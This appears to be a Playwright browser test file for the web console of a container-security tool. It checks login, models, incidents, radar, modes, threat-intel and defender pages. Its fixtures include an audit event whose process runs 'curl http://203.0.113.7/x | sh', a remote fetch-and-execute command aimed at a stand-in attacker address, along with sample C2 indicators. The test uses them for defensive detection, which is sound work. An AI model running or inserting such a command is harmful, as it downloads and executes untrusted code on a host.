// The web UI in a real browser (Debian's chromium through playwright-core), against a console on a real socket.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { hashPassword } from '../../src/console/auth.ts';
import { serveConsole, type RunningConsole } from '../../src/console/index.ts';
import { emptyModel, type Audit, type IntentModel } from '../../src/model/index.ts';
import { SqliteStore, type Store } from '../../src/store/index.ts';

const CHROMIUM = '/usr/bin/chromium';
const PASSWORD = 'correct horse battery staple';
/** Where the screenshots go, for a person to look at. */
const SHOTS = process.env.TENET_SCREENSHOTS ?? join(tmpdir(), 'tenet-ui-screenshots');
const skip = !existsSync(CHROMIUM) && process.getuid?.() !== 0 ? 'chromium is not installed and this is not a lab (not root)' : false;

let store: Store;
let running: RunningConsole;
let browser: Browser;
const problems: string[] = [];

function models(): IntentModel[] {
  const nginx = { ...emptyModel('sha256:6a5b0b3c1f2e', { image: 'nginx:1.27' }), state: 'active' as const };
  nginx.processes.push(
    { path: '/usr/sbin/nginx', argv: ['nginx', '-g', 'daemon off;'], role: 'main', sources: [{ kind: 'declared', format: 'dockerfile', file: 'Dockerfile', line: 9, instruction: 'CMD ["nginx", "-g", "daemon off;"]' }] },
    { path: '/bin/sh', sources: [{ kind: 'learned', count: 42, lastSeen: new Date().toISOString(), containers: ['c1', 'c2'] }] },
  );
  nginx.network.listen.push({ port: 80, protocol: 'tcp', sources: [{ kind: 'declared', format: 'kubernetes', file: 'k8s/web.yaml', line: 21, path: 'spec.template.spec.containers[0].ports[0]' }] });
  nginx.network.egress.push({ host: 'api.shop.svc', port: 3000, protocol: 'tcp', sources: [{ kind: 'learned', count: 1200 }] });
  nginx.filesystem.writable.push({ path: '/var/cache/nginx', sources: [{ kind: 'image', layer: 'sha256:9c1d2e3f4a5b6c7d8e9f' }] });
  nginx.syscalls.allow.push('accept4', 'epoll_wait', 'read', 'write', 'openat', 'close');
  const redis = { ...emptyModel('sha256:77aa88bb99cc', { image: 'redis:7' }), state: 'learning' as const, remainingLearningDurationSec: 1500,
    learning: { windowSec: 3600, observedSec: 2100, startedAt: new Date().toISOString(), replicas: ['c3'], outliers: [], overflow: [],
      convergence: { converged: false, events: 5200, lastNewSec: { egress: 2049 }, repeatSec: {}, waiting: [{ dimension: 'egress' as const, quietSec: 51, needSec: 2049, why: 'new 51 s ago; quiet needed: the 2049 s its last new entry took to appear' }] } } };
  return [nginx, redis];
}

const audit = (id: string, rule: string, severity: Audit['severity'], message: string): Audit => ({
  id, time: new Date(Date.now() - 60_000).toISOString(), rule, severity, message, container: { id: 'c1', name: 'shop-web-1' }, model: 'sha256:6a5b0b3c1f2e',
  lacked: { dimension: 'processes', entry: '/bin/sh' },
  event: { kind: 'exec', time: new Date().toISOString(), source: 'tenet', container: { id: 'c1' }, process: { pid: 4242, path: '/bin/sh', argv: ['sh', '-c', 'curl http://203.0.113.7/x | sh'], parent: { pid: 1, name: 'nginx', path: '/usr/sbin/nginx' } } },
});

before(async () => {
  if (skip !== false) return;
  mkdirSync(SHOTS, { recursive: true });
  store = new SqliteStore(mkdtempSync(join(tmpdir(), 'tenet-ui-')));
  const passwordHash = await hashPassword(PASSWORD);
  for (const role of ['admin', 'operator', 'auditor'] as const) await store.putUser({ name: role, role, passwordHash, createdAt: new Date().toISOString() });
  await store.putModels(models());
  await store.addAudits([audit('a1', 'shell-from-server', 'critical', 'shop-web-1: shell started by a server process: sh started by nginx'), audit('a2', 'unexpected-egress', 'high', 'shop-web-1 connected to a peer its model does not have: 203.0.113.7:80')]);
  await store.putIncidents([{
    id: 'i1', pattern: 'exploit-to-execution', title: 'Exploit to execution', severity: 'critical', container: { id: 'c1', name: 'shop-web-1', image: 'tenet-lab/shop-web:1' }, firstSeen: new Date(Date.now() - 90_000).toISOString(), lastSeen: new Date().toISOString(), count: 3,
    techniques: [{ id: 'T1059.004', name: 'Unix Shell' }, { id: 'T1046', name: 'Network Service Discovery' }],
    timeline: [
      { audit: 'a1', time: new Date(Date.now() - 90_000).toISOString(), lastTime: new Date().toISOString(), rule: 'shell-from-server', severity: 'critical', message: 'sh started by nginx', count: 2 },
      { audit: 'a2', time: new Date(Date.now() - 60_000).toISOString(), lastTime: new Date().toISOString(), rule: 'unexpected-egress', severity: 'high', message: 'connected to 203.0.113.7:80', count: 109,
        distinct: 109, values: ['80', '81'], summary: '109 ports of 203.0.113.7 in 2 s' },
    ],
  }]);
  const t = new Date().toISOString();
  await store.putSupermodels([{
    apiVersion: 'tenet/v1', kind: 'Supermodel', app: 'shop',
    nodes: [{ id: 'shop/web', models: ['sha256:6a5b0b3c1f2e'], exposed: [{ port: 8080, targetPort: 80, protocol: 'tcp', sources: [] }] }, { id: 'shop/api', models: [] }, { id: 'shop/worker', models: [] }, { id: 'shop/redis', models: ['sha256:77aa88bb99cc'] }],
    edges: [
      { from: 'shop/web', to: 'shop/api', port: 3000, targetPort: 3000, protocol: 'tcp', sources: [], state: 'both', count: 1200, firstSeen: t, lastSeen: t },
      { from: 'shop/api', to: 'shop/redis', port: 6379, targetPort: 6379, protocol: 'tcp', sources: [], state: 'learned', count: 800, firstSeen: t, lastSeen: t },
      { from: 'shop/worker', to: 'shop/redis', port: 6379, targetPort: 6379, protocol: 'tcp', sources: [], state: 'declared' },
      { from: 'shop/web', to: 'shop/redis', port: 6379, targetPort: 6379, protocol: 'tcp', sources: [], state: 'blocked', count: 3, firstSeen: t, lastSeen: t },
    ],
    outside: [{ from: 'shop/web', address: '203.0.113.7', port: 80, protocol: 'tcp', class: 'internet', count: 2, firstSeen: t, lastSeen: t, intel: [{ feed: 'c2-list', format: 'list', category: 'c2' }] }],
  }]);
  await store.putFeed({ name: 'c2-list', source: 'api', format: 'list', loadedAt: t, notes: [], indicators: [{ kind: 'ip', value: '203.0.113.7', provenance: { feed: 'c2-list', format: 'list' } }] });
  await store.putDefender({ id: 'd1', name: 'node-1', hostname: 'node-1', version: '0.1.0', enrolledAt: t, lastSeen: t, connected: true, pending: 12, dropped: 0 });
  running = await serveConsole({ store, version: '0.0.0-test', port: 0, host: '127.0.0.1', tls: undefined, log: () => {} });
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
});

after(async () => {
  await browser?.close();
  await running?.close();
});

async function page(user: 'admin' | 'operator' | 'auditor'): Promise<Page> {
  const p = await browser.newPage({ viewport: { width: 1360, height: 900 } });
  // the one expected refusal: asking who is logged in before anyone is
  p.on('console', (m) => {
    if (m.type() === 'error' && !/status of 401/.test(m.text())) problems.push(`${user}: console: ${m.text()}`);
  });
  p.on('response', (r) => {
    if (r.status() >= 400 && !(r.status() === 401 && r.url().endsWith('/api/v1/session') && r.request().method() === 'GET')) problems.push(`${user}: ${r.status()} ${r.request().method()} ${r.url()}`);
  });
  p.on('pageerror', (e) => problems.push(`${user}: ${e.message}`));
  await p.goto(running.url);
  await p.getByTestId('login-name').fill(user);
  await p.getByTestId('login-password').fill(PASSWORD);
  await p.getByTestId('login-submit').click();
  await p.getByTestId('nav-models').waitFor();
  return p;
}

test('a wrong password is refused on the login page', { skip }, async () => {
  const p = await browser.newPage();
  await p.goto(running.url);
  const response = p.waitForResponse((r) => r.url().endsWith('/api/v1/session') && r.request().method() === 'POST');
  await p.getByTestId('login-name').fill('operator');
  await p.getByTestId('login-password').fill('not the password');
  await p.getByTestId('login-submit').click();
  assert.equal((await response).status(), 401);
  assert.match(await p.getByRole('alert').textContent() ?? '', /Wrong user name or password/);
  await p.screenshot({ path: join(SHOTS, 'login.png') });
  await p.close();
});

test('models: the list with learning progress, a model with every entry and where it comes from', { skip }, async () => {
  const p = await page('operator');
  const rows = p.getByTestId('models').locator('tbody tr');
  assert.equal(await rows.count(), 2);
  assert.match(await p.getByTestId('models').textContent() ?? '', /58%/, 'the learning model shows how far it is');
  await p.screenshot({ path: join(SHOTS, 'models.png'), fullPage: true });
  await rows.filter({ hasText: 'nginx:1.27' }).click();
  const entries = p.getByTestId('model-entries');
  await entries.waitFor();
  const text = await entries.textContent() ?? '';
  for (const expected of ['/usr/sbin/nginx', 'Dockerfile:9', 'CMD ["nginx", "-g", "daemon off;"]', 'learned ×42', 'k8s/web.yaml:21', 'api.shop.svc:3000/tcp', 'layer sha256:9c1d2e3f4a5b…', 'epoll_wait']) {
    assert.ok(text.includes(expected), `the model page says ${expected}`);
  }
  await p.screenshot({ path: join(SHOTS, 'model.png'), fullPage: true });
  await p.getByTestId('relearn').click();
  await p.getByText('Asked the defenders to learn it again.').waitFor();
  assert.deepEqual((await store.commandsSince(0)).map((c) => c.command), [{ action: 'relearn', model: 'sha256:6a5b0b3c1f2e' }]);
  // a learning model says what still moves, and why
  await p.getByTestId('nav-models').click();
  await p.getByTestId('models').locator('tbody tr').filter({ hasText: 'redis:7' }).click();
  const moving = p.getByTestId('convergence');
  await moving.waitFor();
  assert.match(await moving.textContent() ?? '', /still moving.*egress new 51 s ago; quiet needed/);
  await p.close();
});

test('incidents and audits: the timeline, the process tree and the evidence', { skip }, async () => {
  const p = await page('auditor');
  await p.getByTestId('nav-incidents').click();
  await p.getByTestId('incidents').locator('tbody tr').first().click();
  const timeline = p.getByTestId('timeline');
  await timeline.waitFor();
  assert.equal(await timeline.locator('li').count(), 2);
  assert.match(await timeline.textContent() ?? '', /sh started by nginx×2/);
  assert.match(await timeline.textContent() ?? '', /×109 109 ports of 203\.0\.113\.7 in 2 s/, 'a folded line says what varied');
  assert.match(await p.getByTestId('techniques').textContent() ?? '', /T1059\.004 Unix Shell T1046 Network Service Discovery/);
  await p.screenshot({ path: join(SHOTS, 'incident.png'), fullPage: true });
  await timeline.getByText('sh started by nginx').click();
  const detail = p.getByTestId('audit-detail');
  await detail.waitFor();
  const text = await detail.textContent() ?? '';
  assert.ok(text.includes('/usr/sbin/nginx') && text.includes('sh -c curl http://203.0.113.7/x | sh') && text.includes('processes: /bin/sh'), text);
  await p.screenshot({ path: join(SHOTS, 'audit.png'), fullPage: true });
  await p.close();
});

test('the radar draws the application\'s graph, flows coloured by state, and what left the application', { skip }, async () => {
  const p = await page('auditor');
  await p.getByTestId('nav-radar').click();
  const radar = p.getByTestId('radar');
  await p.waitForSelector('[data-testid="radar"][data-drawn]');
  assert.equal(await radar.getAttribute('data-drawn'), '5', 'four workloads and one address outside');
  assert.equal(await radar.locator('canvas').count() > 0, true);
  const page_ = await p.textContent('main') ?? '';
  for (const state of ['both', 'learned', 'declared', 'blocked']) assert.ok(page_.includes(state), state);
  assert.ok(page_.includes('c2-list'), 'the outside address with the feed that lists it');
  await p.screenshot({ path: join(SHOTS, 'radar.png'), fullPage: true });
  await p.close();
});

test('modes: an operator sets one; an auditor only reads', { skip }, async () => {
  const p = await page('operator');
  await p.getByTestId('nav-modes').click();
  await p.getByTestId('mode-scope').selectOption('image');
  await p.getByTestId('mode-value').fill('nginx');
  await p.getByTestId('mode-dimension').selectOption('processes');
  await p.getByTestId('mode-mode').selectOption('prevent');
  await p.getByTestId('mode-set').click();
  await p.getByTestId('modes').getByText('image nginx').waitFor();
  assert.deepEqual((await store.modes()).map((m) => [m.scope, m.dimension, m.mode]), [[{ kind: 'image', value: 'nginx' }, 'processes', 'prevent']]);
  const change = (await store.changes({})).items.find((c) => c.action === 'mode.set');
  assert.equal(change?.actor, 'operator', 'the change log names the user of the session');
  await p.screenshot({ path: join(SHOTS, 'modes.png'), fullPage: true });
  await p.close();

  const a = await page('auditor');
  await a.getByTestId('nav-modes').click();
  await a.getByText('Auditors read; an operator changes modes.').waitFor();
  assert.equal(await a.getByTestId('mode-set').count(), 0);
  await a.close();
});

test('threat intel and defenders', { skip }, async () => {
  const p = await page('operator');
  await p.getByTestId('nav-intel').click();
  await p.getByTestId('feed-name').fill('more');
  await p.getByTestId('feed-content').fill('198.51.100.0/24\nevil.example\n');
  await p.getByTestId('feed-load').click();
  await p.getByTestId('feeds').getByText('more').waitFor();
  assert.deepEqual((await store.feeds()).map((f) => [f.name, f.count]), [['c2-list', 1], ['more', 2]]);
  await p.screenshot({ path: join(SHOTS, 'intel.png'), fullPage: true });
  await p.getByTestId('nav-defenders').click();
  await p.getByTestId('defenders').getByText('node-1').first().waitFor();
  assert.match(await p.getByTestId('defenders').textContent() ?? '', /connected.*12 waiting/);
  await p.screenshot({ path: join(SHOTS, 'defenders.png'), fullPage: true });
  await p.getByTestId('logout').click();
  await p.getByTestId('login-submit').waitFor();
  await p.close();
});

test('no page broke its Content-Security-Policy or threw', { skip }, () => {
  assert.deepEqual(problems, []);
  process.stdout.write(`# screenshots in ${SHOTS}\n`);
});
